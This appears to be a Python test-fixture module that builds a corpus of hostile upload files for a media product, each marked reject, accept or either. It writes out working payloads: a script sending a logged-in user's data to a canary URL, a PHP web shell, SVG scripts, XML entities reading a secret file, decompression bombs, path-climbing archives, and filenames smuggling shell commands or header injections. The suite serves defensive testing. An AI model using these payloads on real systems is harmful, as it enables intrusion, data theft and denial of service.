"""Files that nobody should trust: bombs, liars, polyglots, scripts in disguise. All made here, none stored.

Each has a verdict: `reject` must be refused, `accept` must be taken, `either` may be one or the other but must do no harm.
"""

import gzip
import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass

from product.pictures import chunk, png

TRACK = b"trak"  # typos:ignore


@dataclass
class File:
    name: str
    data: bytes
    mime: str
    expect: str
    why: str


def corpus(canary_url, secret_path):
    """All of them; `canary_url` must never be asked for, what is in `secret_path` must never be shown."""
    return [
        *pictures(),
        *disguises(canary_url),
        *documents(canary_url, secret_path),
        *films(canary_url, secret_path),
        *archives(),
        *names(),
    ]


def header_png(width, height, depth=8, colour=2, data=b"\0" * 100, extra=b""):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def flat_png(side):
    """A black square of one bit a pixel: a hundred kilobytes that unpack to a hundred megabytes or more."""
    packer, row = zlib.compressobj(9), bytes(side // 8 + 1)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", data)
        + chunk(b"IEND", b"")
    )


def pictures():
    good = png(64, 48, noise=False)
    frame = b"," + struct.pack("<HHHHB", 0, 0, 2000, 2000, 0) + b"\x02\x02\x44\x01\0"
    gif = lambda width, height: b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    bmp = lambda width, height, bits: (
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, width, height, 1, bits, 0, 0, 0, 0, 0, 0)
    )
    yield File("control.png", good, "image/png", "accept", "a small good picture")
    yield File("flat-30000.png", flat_png(30_000), "image/png", "reject", "900 megapixels in 110 KB")
    yield File(
        "huge-header.png",
        header_png(0x7FFFFFFF, 0x7FFFFFFF, 16, 6),
        "image/png",
        "reject",
        "a header that claims 2^62 pixels",
    )
    yield File("no-width.png", header_png(0, 100), "image/png", "reject", "no pixel at all")
    yield File(
        "long-text.png",
        png(8, 8, extra=chunk(b"iTXt", b"c\0\1\0\0\0" + zlib.compress(bytes(200_000_000), 9))),
        "image/png",
        "either",
        "a text chunk of 200 MB, packed",
    )
    yield File(
        "long-profile.png",
        png(8, 8, extra=chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(100_000_000), 9))),
        "image/png",
        "either",
        "a colour profile of 100 MB, packed",
    )
    yield File(
        "frames.png",
        png(8, 8, extra=chunk(b"acTL", struct.pack(">II", 0xFFFFFFFF, 0))),
        "image/png",
        "either",
        "an animation that claims four billion frames",
    )
    yield File(
        "chunk-length.png", good[:33] + b"\x7f\xff\xff\xffIDAT", "image/png", "reject", "a chunk that claims 2 GiB"
    )
    yield File("cut.png", good[:60], "image/png", "reject", "broken off in the middle")
    yield File("wrong-sum.png", good[:-10] + bytes(10), "image/png", "either", "a wrong checksum at the end")
    yield File("empty.png", b"", "image/png", "reject", "no byte at all")
    yield File("one-byte.png", b"\x89", "image/png", "reject", "one byte")
    yield File(
        "bomb.gif",
        gif(65535, 65535) + b"," + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x44\x01\0;",
        "image/gif",
        "reject",
        "four gigapixels in 40 bytes",
    )
    yield File(
        "frames.gif", gif(2000, 2000) + frame * 20_000 + b";", "image/gif", "either", "20 000 frames of four megapixels"
    )
    yield File(
        "bomb.jpg",
        b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\0\x02\x11\1\x03\x11\1\xff\xd9",
        "image/jpeg",
        "reject",
        "four gigapixels in a JPEG header",
    )
    yield File("bomb.bmp", bmp(65500, 65500, 24), "image/bmp", "reject", "12 GB in a BMP header")
    yield File("negative.bmp", bmp(-(2**31), -(2**31), 32), "image/bmp", "reject", "the smallest number as a size")
    yield File(
        "loop.tiff",
        b"II*\0\x08\0\0\0\x01\0\x00\x01\x03\0\1\0\0\0\1\0\0\0\x08\0\0\0",
        "image/tiff",
        "reject",
        "a directory that points at itself",
    )
    yield File(
        "canvas.webp",
        b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + b"\xff" * 6 + bytes(4),
        "image/webp",
        "reject",
        "a canvas of 2^24 by 2^24",
    )
    yield File(
        "noise.jpg",
        b"\xff\xd8\xff\xe0" + random.Random(1).randbytes(1 << 20),
        "image/jpeg",
        "reject",
        "noise behind a JPEG's first bytes",
    )
    yield File(
        "float.hdr",
        b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 2000000000 +X 2000000000\n",
        "image/vnd.radiance",
        "reject",
        "an exotic format with absurd sizes",
    )
    yield File(
        "wide.ppm",
        b"P6 4000000000 4000000000 255\n" + bytes(64),
        "image/x-portable-pixmap",
        "reject",
        "a text header with absurd sizes",
    )


def disguises(canary_url):
    good = png(64, 48, seed=1, noise=False)
    page = f'<html><script>fetch("/api/v1/auth/me").then(a=>a.text()).then(t=>new Image().src="{canary_url}?"+t)</script></html>'.encode()
    yield File("page.png", page, "image/png", "reject", "a page named like a picture")
    yield File("picture.html", good, "text/html", "either", "a picture named like a page")
    yield File(
        "both.png", png(64, 48, seed=2, noise=False) + page, "image/png", "either", "a picture with a page behind it"
    )
    yield File(
        "both.gif",
        b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;PK\5\6" + bytes(18),
        "image/gif",
        "either",
        "a picture that is an archive too",
    )
    yield File("shell.php.jpg", b"\xff\xd8\xff\xe0<?php system($_GET[0]);?>", "image/jpeg", "reject", "a web shell")
    yield File(
        "../../webapps/ROOT/shell.jsp",
        b'<%@page import="java.io.*"%>',
        "application/octet-stream",
        "reject",
        "a web shell that wants to climb",
    )
    yield File("program.png", b"\x7fELF" + bytes(200), "image/png", "reject", "a program")
    yield File("script.mp4", b"#!/bin/sh\ntouch /tmp/vitrine-was-here\n", "video/mp4", "reject", "a script")
    yield File(
        "page.pdf",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        "application/pdf",
        "reject",
        "a document that acts",
    )
    yield File("text.txt", b"hello", "text/plain", "reject", "no picture at all")


def documents(canary_url, secret_path):
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">%s</svg>'
    bodies = {
        "script": "<script>alert(1)</script>",
        "handler": '<rect width="9" height="9" onload="alert(1)"/>',
        "frame": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
        "link": '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
        "remote": f'<image xlink:href="{canary_url}"/><use href="{canary_url}#a"/>',
        "file": f'<image xlink:href="file://{secret_path}"/>',
        "style": f"<style>@import url({canary_url});</style>",
        "deep": "<g>" * 100_000 + "</g>" * 100_000,
    }
    for name, body in bodies.items():
        yield File(f"svg-{name}.svg", (svg % body).encode(), "image/svg+xml", "reject", f"SVG: {name}")
    letters = "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
    laughs = f'<!DOCTYPE l [<!ENTITY a "{"a" * 100}">{letters}]>' + svg % "<text>&j;</text>"
    yield File("svg-laughs.svg", laughs.encode(), "image/svg+xml", "reject", "entities that multiply")
    outside = f'<!DOCTYPE s [<!ENTITY x SYSTEM "file://{secret_path}">]>' + svg % "<text>&x;</text>"
    yield File("svg-outside.svg", outside.encode(), "image/svg+xml", "reject", "an entity from a file")
    yield File(
        "svg-packed.svgz",
        gzip.compress(b"<svg>" + b" " * 200_000_000),
        "image/svg+xml",
        "reject",
        "200 MB of blanks, packed",
    )
    feed = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret_path}">]><rss><channel><title>&x;</title></channel></rss>'
    yield File("feed.xml", feed.encode(), "application/rss+xml", "reject", "a feed with an entity from a file")


def films(canary_url, secret_path):
    sources = {
        "file": f"file://{secret_path}",
        "http": canary_url,
        "concat": f"concat:{secret_path}|/etc/hostname",
        "data": "data:text/plain,x",
        "tcp": "tcp://127.0.0.1:22",
        "subfile": f"subfile,,start,0,end,64,,:{secret_path}",
        "crypto": f"crypto:{secret_path}",
        "relative": "./secret.ts",
    }
    for kind, source in sources.items():
        listing = f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{source}\n#EXT-X-ENDLIST\n".encode()
        yield File(
            f"hls-{kind}.m3u8",
            listing,
            "application/vnd.apple.mpegurl",
            "reject",
            f"a stream list that points to {kind}",
        )
        yield File(f"hls-{kind}.mp4", listing, "video/mp4", "reject", f"the same named like a film: {kind}")
    yield File(
        "concat.mp4",
        f"ffconcat version 1.0\nfile {secret_path}\n".encode(),
        "video/mp4",
        "reject",
        "a script that joins files",
    )
    yield File(
        "concat-near.mp4",
        b"ffconcat version 1.0\nfile secret.mp4\n",
        "video/mp4",
        "reject",
        "a script that joins what lies beside it",
    )
    dash = f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{canary_url}</BaseURL><SegmentBase/></Representation></AdaptationSet></Period></MPD>'
    yield File("dash.mp4", dash.encode(), "video/mp4", "reject", "a DASH list")
    yield File(
        "session.mp4",
        b"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n",
        "video/mp4",
        "reject",
        "a session description that opens sockets",
    )
    yield File(
        "subtitles.avi",
        subtitled_avi(
            f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile://{secret_path}\n#EXT-X-ENDLIST\n".encode()
        ),
        "video/x-msvideo",
        "reject",
        "subtitles that are a stream list",
    )
    start = box(b"ftyp", b"isom\0\0\2\0isommp41")
    reference = box(b"dref", bytes(4) + b"\0\0\0\1" + box(b"url ", bytes(4) + canary_url.encode() + b"\0"))
    yield File(
        "elsewhere.mp4",
        start + nested(reference, b"dinf", b"minf", b"mdia", TRACK, b"moov"),
        "video/mp4",
        "reject",
        "a film whose data are elsewhere",
    )
    samples = box(b"stsz", bytes(8) + b"\xff\xff\xff\xff")
    yield File(
        "samples.mp4",
        start + nested(samples, b"stbl", b"minf", b"mdia", TRACK, b"moov"),
        "video/mp4",
        "reject",
        "four billion samples",
    )
    deep = b""
    for level in range(5000):
        deep = box(b"moov" if level % 2 else TRACK, deep)
    yield File("deep.mp4", start + deep, "video/mp4", "reject", "5 000 boxes in each other")
    yield File(
        "endless.mp4", start + struct.pack(">I4sQ", 1, b"mdat", 2**62), "video/mp4", "reject", "a box of 2^62 bytes"
    )
    yield File("zeros.mp4", bytes(1 << 20), "video/mp4", "reject", "a megabyte of nothing")
    yield File("noise.mp4", random.Random(2).randbytes(1 << 20), "video/mp4", "reject", "a megabyte of noise")
    yield File(
        "noise.webm",
        b"\x1aE\xdf\xa3" + random.Random(3).randbytes(1 << 18),
        "video/webm",
        "reject",
        "noise behind a WebM's first bytes",
    )


def box(kind, data):
    return struct.pack(">I", 8 + len(data)) + kind + data


def nested(data, *kinds):
    for kind in kinds:
        data = box(kind, data)
    return data


def riff(kind, data):
    return kind + struct.pack("<I", len(data)) + data + (b"\0" if len(data) & 1 else b"")


def subtitled_avi(listing):
    subtitle = (
        b"GAB2\0\2\0"
        + struct.pack("<I", 10)
        + "U8F".encode("utf-16-le")
        + bytes(4)
        + b"\4\0"
        + struct.pack("<I", len(listing))
        + listing
    )
    numbers = lambda handler, width: struct.pack(
        "<IHHIIIIIIIIHHHH", 0, 0, 0, 0, 1, 25, 0, 10, 0, 0xFFFFFFFF, 0, 0, 0, width, width
    )
    video = riff(
        b"LIST",
        b"strl"
        + riff(b"strh", b"vidsFMP4" + numbers(0, 64))
        + riff(b"strf", struct.pack("<IiiHHIIiiII", 40, 64, 64, 1, 24, 0x34504D46, 0, 0, 0, 0, 0)),
    )
    words = riff(b"LIST", b"strl" + riff(b"strh", b"txts\0\0\0\0" + numbers(0, 0)) + riff(b"strf", bytes(40)))
    head = riff(
        b"LIST",
        b"hdrl" + riff(b"avih", struct.pack("<14I", 40000, 0, 0, 16, 10, 0, 2, 0, 64, 64, 0, 0, 0, 0)) + video + words,
    )
    return riff(
        b"RIFF",
        b"AVI "
        + head
        + riff(b"LIST", b"movi" + riff(b"01tx", subtitle) + riff(b"00dc", b"\0\0\1\xb6" + bytes(60)) * 4),
    )


def archives():
    climbing = {
        "dots": "../../../../tmp/vitrine-was-here",
        "root": "/tmp/vitrine-was-here",
        "back": "..\\..\\vitrine-was-here",
        "drive": "C:\\vitrine-was-here",
        "mixed": "a/../../../vitrine-was-here",
        "long": "a/" * 2000 + "x",
    }
    for kind, name in climbing.items():
        yield File(
            f"climb-{kind}.zip",
            archive({"layout.json": b"{}", name: b"x"}),
            "application/zip",
            "reject",
            f"an archive that climbs out: {kind}",
        )
    yield File(
        "bomb.zip",
        archive({f"{n}.png": bytes(20_000_000) for n in range(10)}),
        "application/zip",
        "reject",
        "200 MB in an archive of 200 KB",
    )
    yield File("bomb.gz", gzip.compress(bytes(100_000_000)), "application/gzip", "reject", "100 MB in 100 KB")


def archive(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in entries.items():
            packed.writestr(name, data)
    return out.getvalue()


def names():
    """Good pictures with names that want to be more than names."""
    odd = {
        "up": "../../../etc/cron.d/x.png",
        "up-back": "..\\..\\x.png",
        "root": "/etc/x.png",
        "nul": "x.png\0.html",
        "lines": "x.png\r\nX-Injected: 1",
        "backwards": "gnp\u202egnp.exe",
        "long": "a" * 5000 + ".png",
        "dash": "-i.png",
        "dashes": "--help.png",
        "join": "concat:x.png",
        "scheme": "file:x.png",
        "percent": "%2e%2e%2fx.png",
        "semicolon": "x.png;.html",
        "quote": 'x".png',
        "pipe": "|id.png",
        "tick": "`id`.png",
        "nothing": "",
        "dot": ".",
        "hidden": ".htaccess",
        "format": "%n%s%05d.png",
        "tag": "<img src=x onerror=alert(1)>.png",
        "sheet": "=cmd|calc!A1.png",
        "lone": "\ud800.png",
    }
    for number, (kind, name) in enumerate(odd.items()):
        name = name.encode("utf-8", "replace").decode()
        yield File(
            name, png(16, 16, seed=100 + number, noise=False), "image/png", "either", f"a name that is more: {kind}"
        )
